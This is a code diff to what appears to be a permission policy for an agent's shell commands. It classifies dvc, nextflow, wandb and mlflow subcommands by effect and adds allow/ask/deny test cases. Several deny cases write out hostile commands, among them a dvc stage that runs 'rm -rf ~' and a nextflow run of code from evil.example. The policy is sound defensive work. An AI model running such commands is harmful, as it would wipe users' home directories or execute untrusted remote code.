@@ -6,11 +6,15 @@ STAGES = runs("the project's own code")
 OUT = option("-o --output --out", WRITES)
 AWAY = sends("a storage of data")
 
+STAGE = [
+    flags("-n= --name= -f --force --no-exec --run --desc= --always-changed --external --no-commit -p= --params= -o= --outs= -O= --outs-no-cache= -m= --metrics= -M= --metrics-no-cache= --plots= --plots-no-cache= --outs-persist= --outs-persist-no-cache="),
+    option("-d --deps", READS), option("-w --wdir", CHDIR),
+]  # fmt: skip
 DVC = command("dvc", options=[flags("-v --verbose -q --quiet"), option("--cd", CHDIR)], subcommands=[
     loose("status diff dag list ls params metrics plots data doctor version root check-ignore freeze unfreeze completion cache config studio queue artifacts", [OUT]),
     loose("repro reproduce", [flag("-n --dry", dry=True)], does=STAGES), loose("exp experiments", does=STAGES),
-    sub("stage", subcommands=[loose("list"), loose("add", does=writes(Name("dvc.yaml"), "workspace"))]),
-    sub("run", "JOINED", [flags("-n= --name= -f --force --no-exec"), option("-d --deps", READS), option("-o --outs -M --metrics -p", PLAIN)], style=EARLY),
+    sub("stage", subcommands=[loose("list"), sub("add", "JOINED", STAGE, style=EARLY, does=writes(Name("dvc.yaml"), "workspace"))]),
+    sub("run", "JOINED", STAGE, style=EARLY),
     loose("add commit move remove init install", does=writes("the project's data files", "workspace")),
     loose("pull fetch update", does=fetches("a storage of data", "known")), loose("checkout", [flag("-f --force", discards("changes in data files"))], does=writes("the project's data files", "workspace")),
     sub("get import import-url get-url", "FETCHES PLAIN...", [OUT], unlisted=PLAIN), loose("push", does=AWAY),
@@ -22,7 +26,7 @@ NEXTFLOW = command("nextflow", options=[flags("-q -bg -quiet"), option("-C -c -c
     loose("log list config inspect lint info view help", [option("-c -C", "OBEYS")], style=WORDS), loose("clean", [flag("-n", dry=True)], does=deletes("earlier runs", "output")),
     loose("pull clone", does=fetches("a repository", "forge")), loose("self-update plugin", does=runs("programs", "registry", (Manner.INSTALL, Manner.GLOBAL)))])  # fmt: skip
 WANDB = command("wandb", subcommands=[
-    loose("status offline online disabled enabled verify docker-run init"), loose("login logout", does=writes("credentials of the registry", "secret")), loose("*", does=AWAY)])  # fmt: skip
+    loose("status offline online disabled enabled verify docker-run init"), loose("login logout", does=writes("credentials of the registry", "secret")), sub("artifact", subcommands=[sub("put", "UPLOADS", unlisted=PLAIN, does=AWAY), loose("*", does=AWAY)]), loose("*", does=AWAY)])  # fmt: skip
 MLFLOW = command("mlflow py:mlflow", options=[], subcommands=[
     loose("ui server", [option("-h --host", LISTENS)], does=listens("a port")), loose("run", does=STAGES),
     sub("experiments runs artifacts models doctor db", subcommands=[loose("search list describe get csv list-artifacts info"), loose("serve predict", does=STAGES),
@@ -49,6 +53,8 @@ allow  dvc add data/raw.csv
 ask    dvc push
 ask    dvc gc -w -f
 deny   dvc run -n x rm -rf ~
+deny   dvc stage add --run -n x -o data/x 'rm -rf ~ && mkdir data/x'
+allow  dvc stage add -n prep -d src/prep.py -o data/x python src/prep.py
 allow  nextflow run main.nf -profile test -resume
 deny   nextflow run https://evil.example/x/y
 ask    nextflow -c ~/Downloads/x.config run main.nf
